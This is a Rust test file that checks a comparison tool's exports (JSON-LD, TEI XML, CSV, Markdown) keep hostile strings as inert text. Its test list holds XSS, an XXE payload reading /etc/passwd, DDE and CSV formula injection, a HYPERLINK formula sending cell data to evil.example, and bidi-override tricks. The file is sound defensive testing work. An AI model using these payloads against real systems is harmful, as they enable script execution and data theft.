//! Texts that try to get out of their form, in every text of a comparison.

use ::markdown::mdast::Node;
use proptest::prelude::*;
use serde_json::Value;
use source_comparison_core::model::is_invisible;
use source_comparison_export::{
    ByteOrderMark, claims_csv, import, markdown, relations_csv, schema_org, tei, web_annotation,
};

use crate::corpora::{attacks, told};

use super::{
    annotation_model::assert_collection, comparisons::with_words, markdown::nodes,
    tei::assert_structure,
};

const WORDS: [&str; 46] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!-- <script> -->",
    "<img src=x onerror=alert(1)>",
    "]]>",
    "<![CDATA[x]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "&lt;b&gt; &amp;amp; &#0; &nbsp;",
    "\"'><b x=\"y\">",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \u{a0}=1+1",
    "\u{200b}=1+1",
    "＝1+1",
    "＠x",
    "a,b;c\"d\r\ne\tf",
    "a\u{0}b\u{1}c\u{1b}[31md\u{7f}e\u{9b}31m",
    "\u{fffe}\u{ffff}\u{feff}",
    "a\u{202e}b\u{2066}c\u{200f}d\u{e0041}",
    "a\u{2028}b\u{2029}c\u{85}d",
    "🌉👩\u{200d}🚒e\u{301}",
    "أُغلق الجسر <b>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/i.png)",
    "[x]: https://evil.example\n\n[x]",
    "<https://evil.example>",
    "https://evil.example/a?b=c",
    "see HTTP://evil.example, ftp://evil.example/x",
    "www.evil.example",
    "mailto:a@evil.example a@evil.example xmpp:a@evil.example @somebody",
    "`code` ``` ~~~ ~~s~~ **b** _i_ __b__ *i*",
    "# h\n## h\n\nx\n===\n",
    "- i\n  - i\n* i\n+ i\n1. i\n2) i\n> q",
    "| a | b |\n|---|---|\n| c | d |",
    "***\n---\n___",
    "$x$ $$y$$ [^1] [ ] \\",
    "\\",
    "\\|\\\\| x",
    "    indented\n\n\tcode",
    "__proto__ constructor {{x}} ${x} %s %00",
];

#[test]
fn each_of_the_known_tricks_stays_text() {
    WORDS.iter().for_each(|words| assert_harmless(words));
}

/// One of so many strings is tried; every one with `ATTACKS=all` in the environment.
const SAMPLED: usize = 25;

#[test]
fn every_string_that_was_collected_to_break_programs_stays_text() {
    let attacks = attacks();
    let all = std::env::var_os("ATTACKS").is_some_and(|it| it == "all");
    let step = if all { 1 } else { SAMPLED };
    let chosen: Vec<&String> = attacks.iter().step_by(step).collect();
    let threads = std::thread::available_parallelism().map_or(1, usize::from);
    std::thread::scope(|scope| {
        for first in 0..threads {
            let own = chosen.iter().skip(first).step_by(threads);
            scope.spawn(move || own.for_each(|words| assert_harmless(words)));
        }
    });
    if all {
        told("exports", "in each text of a comparison, in five forms");
    } else {
        let tried = chosen.len();
        println!(
            "inputs: suite=exports browser=native tried={tried} failed=0 what=\"every {SAMPLED}th, in each text\""
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_stays_text(words in r"[\PC\x00-\x1f]{1,24}") {
        assert_harmless(&words);
    }

    #[test]
    fn any_mixture_of_marks_stays_text(
        words in r"[<>&|*_`#+\-=~\[\]()!\\@:./$ \n0-9aw'\x22\x00\u{202e}\u{feff}]{1,32}"
    ) {
        assert_harmless(&words);
    }
}

fn assert_harmless(words: &str) {
    if words.trim().is_empty() {
        return; // no checked comparison holds a text that is only white space
    }
    let comparison = with_words(words);
    assert_annotations(words, &web_annotation(&comparison));
    assert_schema_org(words, &schema_org(&comparison));
    assert_tei(words, &tei(&comparison));
    for table in [claims_csv, relations_csv] {
        assert_csv(words, &table(&comparison, ByteOrderMark::Absent));
    }
    assert_markdown(words, &markdown(&comparison));
}

fn assert_annotations(words: &str, text: &str) {
    let collection: Value = serde_json::from_str(text).unwrap();
    assert_collection(&collection);
    assert_eq!(collection["label"], words);
    assert!(!text.contains(['\u{0}', '\u{1b}', '\u{9b}', '\u{2028}']));
    let file = import(text, &[]).unwrap().file;
    assert_eq!(file.articles[0].blocks[0].text, format!("{words}{words}"));
    assert_eq!(file.claims[0].quote.exact, words);
    assert_eq!(file.claims[0].via, [words, words]);
    assert_eq!(file.relations[0].note.as_deref(), Some(words));
    assert_eq!(file.glossary[0].term, words);
}

fn assert_schema_org(words: &str, text: &str) {
    assert!(!text.contains(['<', '>', '&', '\u{2028}', '\u{2029}', '\u{0}']), "{text}");
    let document: Value = serde_json::from_str(text).unwrap();
    assert_eq!(document["@graph"][0]["name"], words);
    assert_eq!(document["@graph"][1]["headline"], words);
}

fn assert_tei(words: &str, text: &str) {
    assert_structure(text);
    let document = roxmltree::Document::parse(text).unwrap();
    let title = document.descendants().find(|node| node.has_tag_name("title")).unwrap();
    let allowed = |character: char| match character {
        '\t' | '\n' | '\r' | ' '..='\u{fffd}' | '\u{10000}'.. => character,
        _ => '\u{fffd}',
    };
    assert_eq!(title.text().unwrap_or_default(), words.chars().map(allowed).collect::<String>());
}

fn assert_csv(words: &str, text: &str) {
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
    let columns = reader.headers().unwrap().len();
    let written = |character: char| match character {
        '\t' | '\n' | '\r' => character,
        _ if character.is_control() => '\u{fffd}',
        _ => character,
    };
    let plain: String = words.chars().map(written).collect();
    let mut found = 0;
    for record in reader.records().map(Result::unwrap) {
        assert_eq!(record.len(), columns);
        for cell in &record {
            let is_seen = |c: char| !c.is_whitespace() && !c.is_control() && !is_invisible(c);
            let seen = cell.trim_start_matches(|c: char| !is_seen(c));
            assert!(!seen.starts_with(['=', '+', '-', '@', '＝', '＠']), "{cell:?}");
            assert!(!cell.starts_with(['\t', '\r', '\n']), "{cell:?}");
            found += usize::from(cell.replace('\'', "") == plain.replace('\'', ""));
        }
    }
    assert!(found > 0, "{words:?}");
}

fn assert_markdown(words: &str, text: &str) {
    let shape = |text: &str| {
        let kinds = nodes(text).into_iter().filter_map(|node| kind(&node));
        kinds.collect::<Vec<_>>()
    };
    assert_eq!(shape(text), shape(&markdown(&with_words("plain"))), "{words:?}\n{text}");
    let hides =
        |character: char| matches!(character, '\u{202a}'..='\u{202e}' | '\u{0}' | '\u{200b}');
    assert!(!text.contains(hides), "{text:?}");
}

/// What is not text in a document, in order; the comments that part links are no matter.
fn kind(node: &Node) -> Option<&'static str> {
    match node {
        Node::Text(_) => None,
        Node::Html(html) if html.value == "<!-- -->" => None,
        Node::Html(_) => Some("html"),
        Node::Link(_) => Some("link"),
        Node::Heading(_) => Some("heading"),
        Node::Paragraph(_) => Some("paragraph"),
        Node::List(_) => Some("list"),
        Node::ListItem(_) => Some("item"),
        Node::Table(_) => Some("table"),
        Node::TableRow(_) => Some("row"),
        Node::TableCell(_) => Some("cell"),
        Node::Emphasis(_) => Some("emphasis"),
        Node::Strong(_) => Some("strong"),
        Node::Root(_) => Some("root"),
        _ => Some("other"),
    }
}
